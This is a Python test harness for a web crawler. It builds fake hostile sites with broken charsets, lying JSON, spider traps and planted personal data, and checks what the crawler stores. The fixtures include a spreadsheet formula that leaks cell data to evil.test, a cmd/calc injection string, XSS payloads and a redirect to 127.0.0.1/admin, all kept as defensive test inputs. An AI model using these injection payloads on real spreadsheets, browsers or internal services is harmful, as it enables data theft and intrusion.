            {"name": ru["name"], "metrics": ru["metrics"]})  # fmt: skip
    content("wrong-charset", "wrong charset (windows-1251 sent as UTF-8)",
            {"/": page(rehosted(ru_path, "wrong-charset"), content_type="text/html; charset=utf-8")},
            {"metrics": ru["metrics"]})  # fmt: skip
    pt_path = "mybb/handmade-pt-index.html"
    pt = expected(pt_path.replace(".html", ".expected.json"))
    declared = b'<meta http-equiv="Content-Type" content="text/html; charset=UTF-8" />'
    content("no-charset", "missing charset (UTF-8 page, no header, no meta)",
            {"/": page(rehosted(pt_path, "no-charset").replace(declared, b""), content_type="text/html")},
            {"name": pt["name"], "metrics": pt["metrics"]})  # fmt: skip
    utf16 = rehosted(pt_path, "utf16").replace(declared, declared.replace(b"UTF-8", b"UTF-16"))
    content("utf16", "UTF-16 with BOM", {"/": page(b"\xff\xfe" + utf16.decode("utf-8").encode("utf-16-le"),
                                                   content_type="text/html")},
            {"name": pt["name"], "metrics": pt["metrics"]})  # fmt: skip
    fixture_content("invalid-utf8", "invalid UTF-8", "phpbb/handmade-hostile-invalid-utf8.html")
    lying = expected("discourse/handmade-hostile-about.expected.json")
    content("lying-json", "lying JSON (strings, negatives, > 2**63, nested objects, nulls, duplicated keys)", {
        "/": page(_shell("Lying Forum", '<meta name="generator" content="Discourse 3.2.1 - x">')),
        "/about.json": page(fixture("discourse/handmade-hostile-about.json"), content_type=JSON_TYPE),
        "/latest.json": page(b'{"topic_list": {"topics": [{"bumped_at": {"nested": 1}}, null]}}',
                             content_type=JSON_TYPE),
    }, {"name": lying["name"], "metrics": lying["metrics"]})  # fmt: skip
    content("nested", "HTML with 100,000 nested tags", {"/": page(_deep_nesting(100_000))}, {"name": "Nested Club"})
    fixture_content("script-name", "<script> in names", "generic/handmade-hostile-script-name.html")
    formula = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'
    content("formula", "=HYPERLINK( and @SUM( texts, javascript: links", {"/": page(
        '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">'
        f'<title>{formula.replace("&", "&amp;").replace(chr(34), "&quot;")}</title>'
        f'<meta property="og:site_name" content="{formula.replace("&", "&amp;").replace(chr(34), "&quot;")}">'
        '<meta name="description" content="@SUM(1+1)*cmd|\' /C calc\'!A0 <img src=x onerror=alert(1)>">'
        '</head><body><p>Join over 3,000 members.</p>'
        '<a href="javascript:alert(document.cookie)">Partners</a> '
        '<a href="JaVaScRiPt:alert(1)">Liens</a></body></html>'
    )}, {"name": formula, "description": "@SUM(1+1)*cmd|' /C calc'!A0 <img src=x onerror=alert(1)>",
         "metrics": {"members": 3000}})  # fmt: skip


# What the privacy and guard pages plant: none of it may be stored anywhere.
SESSION_ID = "22c09551c71c1a6b64e4364ca45cbf28"
PERSON_ADDRESSES = (
    "kontakt+jonas.becker", "contact.dupont", "hello.marie", "admin-mueller", "team.annaschmidt",
)  # fmt: skip
FAR_FUTURE = "Fri, 31 Dec 9999 23:59:59 GMT"


def _community_page(title: str, head: str = "", body: str = "", lang: str = "en") -> bytes:
    members = {"en": "Join over 2,500 members.", "de": "Über 2.500 Mitglieder sind dabei."}[lang]
    return (
        f'<!DOCTYPE html><html lang="{lang}"><head><meta charset="utf-8"><title>{title}</title>'
        f'<meta property="og:site_name" content="{title}">{head}</head>'
        f"<body><h1>{title}</h1><p>{members}</p>{body}</body></html>"
    ).encode()


def _thread_page(host: str) -> bytes:
    """A forum thread as a site's first page: its meta description, title and texts are its authors'."""
    post = "Hallo, Pepe schläft nachts auf meinem Kopfkissen und verliert so viel Fell."
    posting = {"@context": "https://schema.org", "@type": "DiscussionForumPosting", "headline": "Pepe verliert Fell",
               "author": {"@type": "Person", "name": "Lisa Sommer"}, "text": post}  # fmt: skip
    return (
        '<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Pepe verliert Fell | Katzenclub</title>'
        f'<meta name="description" content="{post}"><meta property="og:site_name" content="Katzenclub">'
        f'<link rel="canonical" href="http://{host}/threads/pepe-verliert-fell.123/?s={SESSION_ID}">'
        f'<script type="application/ld+json">{json.dumps(posting, ensure_ascii=False)}</script></head><body>'
        f'<nav><a href="/register.php?s={SESSION_ID}">Registrieren</a></nav><h1>Pepe verliert Fell</h1>'
        '<article class="message" data-author="Lisa Sommer"><div class="message-user">Lisa Sommer</div>'
        f'<div class="message-body">{post}</div><div class="signature">Meine Katzen-App ist kostenlos! '
        "Ruf an: 0171 2345678</div></article>"
        '<article class="message" data-author="Bernd Brot"><div class="message-user">Bernd Brot</div>'
        '<div class="message-body">Bürsten hilft, jeden Abend.</div></article>'
        '<time datetime="2026-11-30T21:00:00+00:00">30. Nov.</time></body></html>'
    ).encode()


def add_guard_and_privacy(web: FaultWeb, plan: Plan, copy: int = 0) -> None:
    """Add the attacks of the red team's second pass (issue 15): guard, Retry-After, privacy."""
    from crawler.identity import site_key

    suffix = f"-{copy}" if copy else ""

    def host(name: str) -> str:
        return f"{name}{suffix}.test"

    # An allowed internal service redirects to its host's default port (http://127.0.0.1/ is port
    # 80): the allow-list names one port, the URL none. Contacted directly, so a lapse would reach
    # port 80 of this machine (the jail refuses and records it).
    plan.direct.append("127.0.0.1")
    web.add(
        host("allowed-redirect"),
        {"/": redirect(f"/go{suffix}"), f"/go{suffix}": redirect(f"http://127.0.0.1/admin{suffix}")},
    )
    plan.faults[host("allowed-redirect")] = Fault(
        "redirect to the allowed address without a port (its default port)", "refused_private",
        f"http://{host('allowed-redirect')}/", "refused",
    )  # fmt: skip
    web.add(host("allowed-link"), {"/": page(_community_page("Linking Club", body=(
        '<footer class="site-footer"><h3>Partners</h3><a href="https://127.0.0.1/">Admin</a> '
        f'<a href="http://127.0.0.1/{suffix}">Intranet</a></footer>'
    )))})  # fmt: skip
    plan.content[host("allowed-link")] = Content(
        "links to the allowed address without a port", f"http://{host('allowed-link')}/",
        {"metrics": {"members": 2500}},
    )  # fmt: skip
    plan.refused_links["127.0.0.1"] = "refused_private"  # https://127.0.0.1/ is port 443, not allowed
    # Retry-After at the end of the calendar (its HTTP-date form): clamped to the longest back-off.
    web.add(host("retry-9999"), {"/": page("maintenance", 503, TEXT, Retry_After=FAR_FUTURE)})
    plan.faults[host("retry-9999")] = Fault(
        "HTTP 503 + Retry-After: Fri, 31 Dec 9999", "http_503", f"http://{host('retry-9999')}/", "unreachable"
    )
    plan.schedule[host("retry-9999")] = 60 * 86400
    # Addresses of people dressed as role addresses, and a personal webmail.
    addresses = [f"{local}@{host('roles')}" for local in PERSON_ADDRESSES] + ["info@gmail.co.uk"]
    mailtos = " ".join(f'<a href="mailto:{address}">{address}</a>' for address in addresses)
    web.add(host("roles"), {"/": page(_community_page("Role Club", body=(
        f'<footer class="site-footer">Write to {" or ".join(addresses)}. {mailtos}</footer>'
    )))})  # fmt: skip
    plan.content[host("roles")] = Content(
        "person addresses dressed as role addresses; a webmail", f"http://{host('roles')}/",
        {"contact_email": None, "metrics": {"members": 2500}},
    )  # fmt: skip
    # A role address whose link text names a person.
    web.add(host("mailto-name"), {"/": page(_community_page("Mailto Club", body=(
        f'<footer class="site-footer"><a href="mailto:info@{host("mailto-name")}">Marie Dupont (Präsidentin)</a>'
        "</footer>"
    )))})  # fmt: skip
    plan.content[host("mailto-name")] = Content(
        "mailto: link whose text names a person", f"http://{host('mailto-name')}/",
        {"contact_email": f"info@{host('mailto-name')}", "metrics": {"members": 2500}},
    )  # fmt: skip
    # A self-description naming its operator with a phone number.
    described = f"Run by Jane Roe, write to jane.roe@{host('run-by')} or call +33 6 12 34 56 78"
    web.add(
        host("run-by"), {"/": page(_community_page("Run By Club", f'<meta name="description" content="{described}">'))}
    )
    plan.content[host("run-by")] = Content(
        "meta description with a person's name, address and phone", f"http://{host('run-by')}/",
        {"description": "Run by [name removed], write to [e-mail removed] or call [phone removed]",
         "metrics": {"members": 2500}},
    )  # fmt: skip
    # A thread as the first page: its texts are the authors'; the site's root describes the site.
    thread = f"/threads/pepe-verliert-fell.123/{suffix}"
    web.add(host("thread-first"), {
        thread: page(_thread_page(host("thread-first"))),
        "/": page(_community_page("Katzenclub", '<meta name="description" content="Das Forum für Katzenfreunde.">',
                                  lang="de")),
    })  # fmt: skip
    plan.content[site_key(f"http://{host('thread-first')}{thread}")] = Content(
        "a thread as first page (post text, authors, signature, session id)", f"http://{host('thread-first')}{thread}",
        {"name": "Katzenclub", "description": "Das Forum für Katzenfreunde.",
         "canonical_url": f"http://{host('thread-first')}/", "price_model": None, "metrics": {"members": 2500}},
    )  # fmt: skip
    # The same on a phpBB-style URL, with nothing but the thread's title to name the page.
    bare = _thread_page(host("thread-bare")).replace(b' content="Katzenclub"', b' content=""')
    bare = bare.replace(b"Pepe verliert Fell | Katzenclub", b"Pepe verliert Fell")
    web.add(host("thread-bare"), {
        "/viewtopic.php?t=7": page(bare),
        "/": page(_community_page("Katzenrunde", lang="de")),
    })  # fmt: skip
    plan.content[site_key(f"http://{host('thread-bare')}/viewtopic.php?t=7")] = Content(
        "a thread as first page, named only by its title", f"http://{host('thread-bare')}/viewtopic.php?t=7",
        {"name": "Katzenrunde", "description": None, "metrics": {"members": 2500}},
    )  # fmt: skip
    plan.planted += [
        "Pepe verliert Fell", *PERSON_ADDRESSES, "jonas", "becker", "dupont", "mueller", "annaschmidt", "gmail.co.uk",
        "Marie",
        "Präsidentin", "Jane Roe", "jane.roe", "+33 6 12 34 56 78", "12 34 56 78", "Pepe schläft", "Kopfkissen",
        "Lisa Sommer", "Bernd Brot", "Bürsten", "kostenlos", "2345678", SESSION_ID,
    ]  # fmt: skip


def add_traps(web: FaultWeb, plan: Plan, copy: int = 0) -> None:
    """Add spider traps: an infinite calendar, session ids in every link, ever-deeper paths, sub-domain floods."""
    suffix = f"-{copy}" if copy else ""
    calendar = f"calendar{suffix}.test"

    def calendar_page(month: int) -> bytes:
        links = [
            (f"/calendar?month={month + 1}", "next month"),
            (f"/calendar?month={month - 1}", "previous"),
            (f"/links?month={month + 1}", "Links"),
            (f"http://cal-{month + 1}.months{suffix}.test/", "Partners"),
        ]
        return _trap_page(f"Calendar Club {month}", links)  # fmt: skip

    web.add(calendar, {"/": page(calendar_page(0))})
    web.add_wildcard(f".months{suffix}.test", lambda host: {"/": page(calendar_page(int(host[4:].split(".")[0])))})
    plan.traps[f"http://{calendar}/"] = "infinite calendar"
    plan.trap_domains |= {calendar, f"months{suffix}.test"}

    session = f"session{suffix}.test"
    rng = random.Random(copy)

    def session_page(host: str) -> dict[str, Behaviour]:
        sid = "".join(rng.choice("0123456789abcdef") for _ in range(32))
        links = [(f"/links?sid={sid}", "Links"), (f"/?PHPSESSID={sid}", "home"),
                 (f"http://s{rng.randrange(10**6)}.sessions{suffix}.test/;jsessionid={sid}", "Partners"),
                 (f"http://{session}/partners?sid={sid}", "Partners")]  # fmt: skip
        return {"/": page(_trap_page(f"Session Club {host}", links))}

    web.add(session, session_page(session))
    web.add_wildcard(f".sessions{suffix}.test", session_page)
    plan.traps[f"http://{session}/"] = "session ids in every link"
    plan.trap_domains |= {session, f"sessions{suffix}.test"}

    deep = f"deeper{suffix}.test"

    def deeper(host: str) -> dict[str, Behaviour]:
        routes: dict[str, Behaviour] = {}
        for level in range(0, 40):
            path = "/" + "links/" * level
            routes[path] = page(_trap_page(f"Deep {level}", [
                (path + "links/", "Links"), (f"http://{host}/{'x/' * (level + 1)}", "Partners"),
                (f"http://d{level + 1}.deeper-sites{suffix}.test/{'deeper/' * (level + 1)}", "Partners"),
            ]))  # fmt: skip
        return routes

    web.add(deep, deeper(deep))
    web.add_wildcard(f".deeper-sites{suffix}.test", deeper)
    plan.traps[f"http://{deep}/"] = "ever-deeper paths"
    plan.trap_domains |= {deep, f"deeper-sites{suffix}.test"}


def build_hostile_web(
    canary_port: int, copies: int = 1, extra_healthy: int = 0, bomb_mib: int = 2048
) -> tuple[FaultWeb, Plan]:
    """Return the hostile web (not started) and its plan: healthy sites, ``copies`` sets of faults and traps."""
    web = FaultWeb()
    plan = Plan()
    plan.healthy = healthy_sites(web) + generated_healthy_sites(web, extra_healthy)
    for copy in range(copies):
        add_faults(web, plan, canary_port, copy, bomb_mib)
        add_content(web, plan, copy)
        add_guard_and_privacy(web, plan, copy)
        add_traps(web, plan, copy)
    return web, plan


# --- what must hold: checks shared by the tests and the soak -----------------------------------

# Columns that only say when or in which run a value was stored: they differ between any two runs.
VOLATILE = frozenset(
    {"first_seen_at", "last_crawled_at", "last_observed_at", "last_run_id", "next_due_at", "run_id",
     "observed_at", "first_seen_run_id"}
)  # fmt: skip
SESSION_MARKERS = ("sid=", "phpsessid", "jsessionid", "sessionid")
MAX_SITES_PER_DOMAIN = 5
MAX_REQUESTS_PER_SITE = 12


def _read_only(db: Path) -> sqlite3.Connection:
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    conn.row_factory = sqlite3.Row
    return conn


def stored_values(db: Path, site_ids: list[str]) -> dict[str, list[tuple]]:
    """The communities, observations, evidence and links rows of ``site_ids``, run and time columns left out."""
    marks = ", ".join("?" * len(site_ids))
    conn = _read_only(db)
    try:
        state = {}
        for table, key in (("communities", "id"), ("observations", "community_id"), ("evidence", "community_id"),
                           ("links", "from_community_id")):  # fmt: skip
            rows = conn.execute(f"SELECT * FROM {table} WHERE {key} IN ({marks})", site_ids).fetchall()
            state[table] = sorted(
                (tuple((name, row[name]) for name in row.keys() if name not in VOLATILE) for row in rows),  # noqa: SIM118 - a Row iterates values
                key=repr,  # None and numbers do not compare
            )
        return state
    finally:
        conn.close()


def healthy_differences(clean_db: Path, hostile_db: Path, plan: Plan) -> list[str]:
    """How the healthy sites' rows in the hostile run differ from the fault-free run (nothing, ideally)."""
    from crawler.identity import site_key

    ids = [site_key(seed) for seed in plan.healthy]
    clean, hostile = stored_values(clean_db, ids), stored_values(hostile_db, ids)
    problems = []
    for table in clean:
        if not clean[table] and table in ("communities", "observations"):
            problems.append(f"{table}: the fault-free run stored nothing")
        for row in set(clean[table]) ^ set(hostile[table]):
            side = "only in fault-free run" if row in clean[table] else "only in hostile run"
            problems.append(f"{table}: {side}: {dict(row)}")
    stored = {row[0][1] for row in hostile["communities"]}
    problems += [f"healthy site {site} not stored" for site in ids if site not in stored]
    return problems


def is_clear_kind(kind: str) -> bool:
    """An error kind a reader understands: a short snake_case word, not a leaked exception class name."""
    return (
        bool(re.fullmatch(r"[a-z][a-z0-9_]{1,30}", kind))
        and not kind.endswith(("error", "exception"))
        and (kind != "ignored")
    )


def fault_problems(db: Path, plan: Plan) -> list[str]:
    """Each faulty site leaves exactly one fetch_errors row of its kind; no other site leaves any."""
    conn = _read_only(db)
    try:
        errors = conn.execute("SELECT site_id, url, error, message FROM fetch_errors ORDER BY site_id").fetchall()
        status = dict(conn.execute("SELECT id, status FROM communities").fetchall())
    finally:
        conn.close()
    problems = []
    by_site: dict[str, list[sqlite3.Row]] = {}
    for row in errors:
        by_site.setdefault(row["site_id"], []).append(row)
        if not is_clear_kind(row["error"]):
            problems.append(f"unclear error kind {row['error']!r} for {row['url']}")
    for site, fault in plan.faults.items():
        rows = by_site.pop(site, [])
        kinds = [row["error"] for row in rows]
        if kinds != [fault.kind]:
            problems.append(f"{fault.fault_class} ({site}): expected one {fault.kind!r} row, got {kinds}")
        if fault.status and status.get(site) != fault.status:
            problems.append(f"{fault.fault_class} ({site}): status {status.get(site)!r}, expected {fault.status!r}")
    for site, kind in plan.refused_links.items():
        kinds = [row["error"] for row in by_site.pop(site, [])]
        if kinds != [kind]:
            problems.append(f"link to {site}: expected one {kind!r} row, got {kinds}")
    for site, rows in by_site.items():
        problems += [f"unexpected error row on {site}: {row['error']} {row['url']} {row['message']}" for row in rows]
    return problems


def schedule_problems(db: Path, plan: Plan) -> list[str]:
    """Sites whose next visit the plan fixes: ``next_due_at`` is exactly that far after the visit."""
    from datetime import datetime

    conn = _read_only(db)
    try:
        rows = {row["id"]: row for row in conn.execute("SELECT id, last_crawled_at, next_due_at FROM communities")}
    finally:
        conn.close()
    problems = []
    for site, seconds in plan.schedule.items():
        row = rows.get(site)
        if row is None or not row["next_due_at"]:
            problems.append(f"{site}: no next visit stored")
            continue
        gap = datetime.fromisoformat(row["next_due_at"]) - datetime.fromisoformat(row["last_crawled_at"])
        if gap.total_seconds() != seconds:
            problems.append(f"{site}: next visit {gap} after this one, expected {seconds} s")
    return problems


def planted_problems(db: Path, plan: Plan) -> list[str]:
    """Every text value of every column of every table that holds planted personal data."""
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        tables = [row[0] for row in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        problems = []
        needles = [needle.lower() for needle in plan.planted]
        for table in tables:
            try:
                cursor = conn.execute(f'SELECT * FROM "{table}"')
            except sqlite3.Error:
                continue  # an FTS shadow table that cannot be read directly
            columns = [column[0] for column in cursor.description]
            for row in cursor:
                for column, value in zip(columns, row, strict=True):
                    if isinstance(value, str):
                        lowered = value.lower()
                        problems += [f"{table}.{column} holds {needle!r}: {value[:160]!r}"
                                     for needle in needles if needle in lowered]  # fmt: skip
        return problems
    finally:
        conn.close()


def content_problems(db: Path, plan: Plan) -> list[str]:
    """Hostile bodies are stored with the values a careful reader gets, and no count is out of range."""
    from crawler.extraction import MAX_COUNT, METRICS

    conn = _read_only(db)
    try:
        rows = {row["id"]: row for row in conn.execute("SELECT * FROM communities")}
        bad_counts = conn.execute(
            "SELECT community_id, metric, value FROM observations WHERE typeof(value) != 'integer' "
            "OR value < 0 OR value > ?",
            [MAX_COUNT],
        ).fetchall()
    finally:
        conn.close()
    problems = [f"implausible count stored: {tuple(row)}" for row in bad_counts]
    for site, case in plan.content.items():
        row = rows.get(site)
        if row is None or row["status"] != "alive":
            problems.append(f"{case.fault_class} ({site}): not stored as alive")
            continue
        for column, value in case.values.items():
            if column == "metrics":
                # Exact: a spurious extra metric is as wrong as a missing one.
                got = {metric: row[metric] for metric in METRICS if row[metric] is not None}
                if got != value:
                    problems.append(f"{case.fault_class} ({site}): metrics {got}, expected {value}")
            elif row[column] != value:
                problems.append(f"{case.fault_class} ({site}): {column} {row[column]!r}, expected {value!r}")
        for metric in METRICS:
            if row[metric] is not None and not 0 <= row[metric] <= MAX_COUNT:
                problems.append(f"{case.fault_class} ({site}): {metric} = {row[metric]}")
    return problems


def private_problems(log: list[Exchange], canary: Canary, jail: list[str]) -> list[str]:
    """Nothing reached a non-allow-listed loopback address, asked for a tunnel or tried to leave loopback."""
    problems = [f"private address reached: {address} {data[:60]!r}" for address, data in canary.hits]
    problems += [f"network jail refused: {line}" for line in jail]
    for entry in log:
        host = entry.host.rsplit(":", 1)[0].strip("[]")
        if entry.method == "CONNECT":
            problems.append(f"https tunnel asked for {entry.host}")
        elif _numeric(host) is not None or host == "localhost" or host.endswith(".localhost"):
            problems.append(f"request through the proxy to address {entry.host}{entry.path}")
    return problems


def robots_problems(log: list[Exchange], plan: Plan) -> list[str]:
    """Nothing was fetched below a path the site's robots.txt disallows."""
    return [
        f"fetched {entry.host}{entry.path} although robots.txt disallows {prefix}"
        for entry in log
        for prefix in plan.robots_disallowed.get(entry.host, [])
        if entry.path != "/robots.txt" and entry.path.startswith(prefix)
    ]


def trap_problems(log: list[Exchange], plan: Plan) -> list[str]:
    """Spider traps stay bounded: few hosts per domain, few requests per host, no session URLs, no deep paths."""
    from crawler.discovery.urls import MAX_PATH_SEGMENTS, registrable_domain

    problems = []
    hosts_per_domain: dict[str, set[str]] = {}
    requests_per_host: dict[str, int] = {}
    for entry in log:
        domain = registrable_domain(entry.host)
        if domain not in plan.trap_domains:
            continue
        hosts_per_domain.setdefault(domain, set()).add(entry.host)
        requests_per_host[entry.host] = requests_per_host.get(entry.host, 0) + 1
        path = entry.path.lower()
        if any(marker in path for marker in SESSION_MARKERS):
            problems.append(f"session URL fetched: {entry.host}{entry.path}")
        if path.startswith("/calendar"):
            problems.append(f"calendar page fetched: {entry.host}{entry.path}")
        if len([part for part in urlsplit(path).path.split("/") if part]) > MAX_PATH_SEGMENTS:
            problems.append(f"deep path fetched: {entry.host}{entry.path}")
    problems += [
        f"{len(hosts)} hosts of trap domain {domain}" for domain, hosts in hosts_per_domain.items()
        if len(hosts) > MAX_SITES_PER_DOMAIN
    ]  # fmt: skip
    problems += [
        f"{count} requests to trap host {host}" for host, count in requests_per_host.items()
        if count > MAX_REQUESTS_PER_SITE + 2  # + robots.txt and the homepage
    ]  # fmt: skip
    return problems


def figures(db: Path, plan: Plan, log: list[Exchange], run: CrawlRun) -> dict[str, object]:
    """The numbers the README's reliability section reports for one hostile crawl."""
    conn = _read_only(db)
    try:
        one = lambda sql: conn.execute(sql).fetchone()[0]  # noqa: E731 - a local shorthand
        kept = one("SELECT count(*) FROM communities WHERE status IN ('alive', 'alias')")
        observations = one("SELECT count(*) FROM observations")
        errors = one("SELECT count(*) FROM fetch_errors")
        kinds = dict(conn.execute("SELECT error, count(*) FROM fetch_errors GROUP BY error ORDER BY error").fetchall())
    finally:
        conn.close()
    return {
        "seed_sites": len(plan.seeds),
        "healthy_sites": len(plan.healthy),
        "hosts_contacted": len({entry.host for entry in log}),
        "requests": len(log),
        "fault_classes": len(plan.fault_classes()),
        "faulty_sites": len(plan.faults) + len(plan.content) + len(plan.traps),
        "communities_kept": kept,
        "observations_kept": observations,
        "errors_recorded": errors,
        "error_kinds": kinds,
        "seconds": round(run.seconds, 1),
        "peak_rss_mb": round(run.peak_rss_kb / 1024),
    }
